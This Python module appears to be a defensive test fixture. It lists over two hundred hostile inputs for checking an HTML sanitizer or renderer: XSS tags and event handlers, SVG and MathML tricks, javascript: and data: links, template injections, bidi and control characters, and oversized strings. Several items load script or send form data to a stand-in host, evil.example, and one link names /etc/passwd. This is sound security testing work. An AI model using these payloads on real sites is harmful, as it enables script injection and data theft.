"""More than two hundred hostile texts: HTML, SVG, URLs, templates, bidi controls, control characters, huge and malformed texts.

Each executable one calls `hacked(...)`, which the harness records. None needs a request to another origin, except those
that name evil.example: a request to it fails the test, too.
"""

MARKUP = [
    "<script>hacked(1)</script>", "<SCRIPT>hacked(1)</SCRIPT>", "<script src=https://evil.example/x.js></script>",
    "</script><script>hacked(1)</script>", "<!--</script><script>hacked(1)//-->", "<script>hacked`1`</script>",
    "<script type=module>hacked(1)</script>", "<scr<script>ipt>hacked(1)</scr</script>ipt>",
    "<script\x0c>hacked(1)</script\x0c>", "<script/x>hacked(1)</script>", "<<script>hacked(1)//<</script>",
    "<img src=x onerror=hacked(1)>", "<img src=x onerror='hacked(1)'>", "<img src=x oNeRrOr=hacked(1)>",
    "<img/src=x/onerror=hacked(1)>", "<img src=\"x\" onerror=\"hacked(1)\"/>", "<img\tsrc=x\nonerror=hacked(1)>",
    "<img src=https://evil.example/pixel.png>", "<img srcset='https://evil.example/pixel.png 1x'>",
    "<img src=x onerror=&#104;acked(1)>", "<image src=x onerror=hacked(1)>", "<img src=x:x onerror=hacked(1)//",
    "<svg onload=hacked(1)>", "<svg/onload=hacked(1)>", "<svg><script>hacked(1)</script></svg>",
    "<svg><script href=https://evil.example/x.js /></svg>", "<svg><animate onbegin=hacked(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:hacked(1)><text>click</text></a></svg>", "<svg><set onbegin=hacked(1) attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>hacked(1)</script></svg>#x'/>",
    "<svg><foreignObject><body onload=hacked(1)></foreignObject></svg>", "<svg><image href=https://evil.example/p.png>",
    "<svg><style>@import 'https://evil.example/x.css'</style></svg>", "<svg><title><style><img src=x onerror=hacked(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hacked(1)>", "<math href=javascript:hacked(1)>click</math>",
    "<math><mi//xlink:href=\"data:x,<script>hacked(1)</script>\">", "<body onload=hacked(1)>", "<body onpageshow=hacked(1)>",
    "<iframe src=javascript:hacked(1)></iframe>", "<iframe srcdoc='<script>parent.hacked(1)</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>", "<iframe onload=hacked(1)></iframe>",
    "<object data=javascript:hacked(1)></object>", "<object data=https://evil.example/x.swf></object>",
    "<object onerror=hacked(1)></object>", "<embed src=javascript:hacked(1)>", "<embed src=https://evil.example/x>",
    "<applet code=x onerror=hacked(1)></applet>", "<frameset onload=hacked(1)>", "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<link rel=prefetch href=https://evil.example/>",
    "<link rel=dns-prefetch href=//evil.example>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:hacked(1)'>", "<meta charset=utf-7>",
    "<style>@import url(https://evil.example/x.css)</style>", "<style>body{display:none!important}</style>",
    "<style>*{background:url(https://evil.example/)}</style>", "<div style=background:url(https://evil.example/)>",
    "<div style=position:fixed;inset:0;z-index:99999;background:red>overlay</div>", "<div style=width:expression(hacked(1))>",
    "<form action=https://evil.example/><button>send</button></form>", "</form><form action=https://evil.example/>",
    "<form id=composer action=https://evil.example/>", "<input onfocus=hacked(1) autofocus>",
    "<button formaction=javascript:hacked(1)>click</button>", "<input type=image src=x onerror=hacked(1)>",
    "<textarea onfocus=hacked(1) autofocus>", "<select onfocus=hacked(1) autofocus>", "<keygen onfocus=hacked(1) autofocus>",
    "</textarea><script>hacked(1)</script>", "</title><script>hacked(1)</script>", "</style><script>hacked(1)</script>",
    "</noscript><script>hacked(1)</script>", "</template><script>hacked(1)</script>", "]]><script>hacked(1)</script>",
    "--><script>hacked(1)</script>", "--!><img src=x onerror=hacked(1)>", "<![CDATA[<script>hacked(1)</script>]]>",
    "<video onerror=hacked(1)><source></video>", "<video src=https://evil.example/v.mp4 autoplay></video>",
    "<audio src=x onerror=hacked(1)>", "<audio src=https://evil.example/a.mp3 autoplay>", "<details ontoggle=hacked(1) open>",
    "<marquee onstart=hacked(1)>x</marquee>", "<dialog open onclose=hacked(1)>x</dialog>", "<x onclick=hacked(1)>click</x>",
    "<div onpointerover=hacked(1)>hover</div>", "<div onanimationstart=hacked(1) style=animation-name:x>",
    "<div contenteditable autofocus onfocus=hacked(1)>", "<a href=javascript:hacked(1)>click</a>",
    "<a href='&#106;avascript:hacked(1)'>click</a>", "<a href=java&Tab;script:hacked(1)>click</a>",
    "<a href=data:text/html,<script>hacked(1)</script>>click</a>", "<a ping=https://evil.example/ href=#>click</a>",
    "<area href=javascript:hacked(1)>", "<template shadowrootmode=open><script>hacked(1)</script></template>",
    "<p id=rows></p><p id=text></p><img name=getElementById>", "<form name=body><input name=dataset></form>",
    "<plaintext>", "<xmp><script>hacked(1)</script></xmp>", "<noembed><img src=x onerror=hacked(1)></noembed>",
    "<li class=row id=row-x data-author=me data-state=read>forged</li>", "<isindex type=image src=1 onerror=hacked(1)>",
    "<?xml version='1.0'?><script>hacked(1)</script>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'https://evil.example/'>]>&e;",
    "\"><script>hacked(1)</script>", "'><script>hacked(1)</script>", "\" onmouseover=hacked(1) x=\"",
    "' autofocus onfocus=hacked(1) x='", "` onmouseover=hacked(1) `", "\" autofocus onfocus=\"hacked(1)", "=hacked(1)//",
    "\\\"><img src=x onerror=hacked(1)>", "\\u003cscript\\u003ehacked(1)\\u003c/script\\u003e",
    "&lt;script&gt;hacked(1)&lt;/script&gt;", "&#60;script&#62;hacked(1)&#60;/script&#62;", "&amp;lt;b&amp;gt;",
    "%3Cscript%3Ehacked(1)%3C/script%3E", "+ADw-script+AD4-hacked(1)+ADw-/script+AD4-", "\ufeff<script>hacked(1)</script>",
    "＜script＞hacked(1)＜/script＞", "<\u0000script>hacked(1)</script>", "<scr\u0000ipt>hacked(1)</scr\u0000ipt>",
]

LINKS = [
    "javascript:hacked(1)", "JaVaScRiPt:hacked(1)", " javascript:hacked(1)", "java\tscript:hacked(1)",
    "java\nscript:hacked(1)", "\x01javascript:hacked(1)", "javascript://https://example.com/%0ahacked(1)",
    "javascript&colon;hacked(1)", "vbscript:hacked(1)", "data:text/html,<script>hacked(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5oYWNrZWQoMSk8L3NjcmlwdD4=", "data:image/svg+xml,<svg onload=hacked(1)>",
    "blob:https://evil.example/x", "file:///etc/passwd", "view-source:javascript:hacked(1)", "filesystem:https://x/",
    "https://user:password@evil.example/", "https://evil.example\\@good.example/", "https://evil.example/\"onclick=hacked(1)//",
    "https://evil.example/'><img src=x onerror=hacked(1)>", "https://evil.example/<script>hacked(1)</script>",
    "http://[::1", "https://", "https:///evil.example", "//evil.example/x.js", "http://127.0.0.1:22/", "https://0x7f000001/",
    "https://xn--e1awd7f.example/", "https://еxample.com/ with a Cyrillic letter", "https://evil.example/\u202egnp.exe",
    "[click](javascript:hacked(1))", "![x](https://evil.example/p.png)", "[x](https://evil.example/ \"onclick=hacked(1)\")",
    "<javascript:hacked(1)>", "[x]: javascript:hacked(1)", "tel:+1;postd=hacked(1)", "intent://x#Intent;scheme=javascript;end",
]

TEMPLATES = [
    "{{constructor.constructor('hacked(1)')()}}", "${hacked(1)}", "<%= hacked(1) %>", "#{hacked(1)}", "{%raw%}{{hacked(1)}}",
    "');hacked(1);//", "\");hacked(1);//", "`;hacked(1);`", "\\');hacked(1);//", "\u2028hacked(1)", "\u2029hacked(1)",
    "__proto__", "constructor", "toString", "$&", "$`", "null", "undefined", "NaN", "{\"__proto__\":{\"hacked\":1}}",
]

TEXTS = [
    "\u202eright to left override", "abc\u202edcba\u202c end", "\u2066\u2067\u2068 isolates without an end", "\u202a" * 200,
    "\u2067" * 300, "\u200f\u200e\u061c marks", "\u0000null\u0000", "\u0001\u0002\u0003\u0004\u0005\u0006\u0007\u0008",
    "\u001b[31mred\u001b[0m\u001b]0;title\u0007", "\u007f\u0080\u009b31m", "\ufffe\uffff non-characters", "\ufff9a\ufffab\ufffb",
    "\u200b\u200c\u200d\ufeff invisible", "Z" + "\u0300\u0301\u0302\u0303" * 200, "\u0e47" * 500, "🏳️‍🌈" * 300, "👩" + "\u200d👩" * 200,
    "W" * 3900, ("W" * 300 + " ") * 12, "\n" * 2000, "\r\n\r\r\n\n" * 100, "\t" * 1500, " " * 3000 + "end", "a\u0085b\u2028c\u2029d",
    "ﷺ" * 300, "\U000e0041\U000e0042 tags", "\ud7a3\uf8ff private", "\u2800" * 1000, "()[]{}" * 500, "<" * 3000, "&" * 3000,
    "\"" * 2000, "'" * 2000, "\\" * 2000,
]

CONTENTS = MARKUP + LINKS + TEMPLATES + TEXTS
"""All of them."""
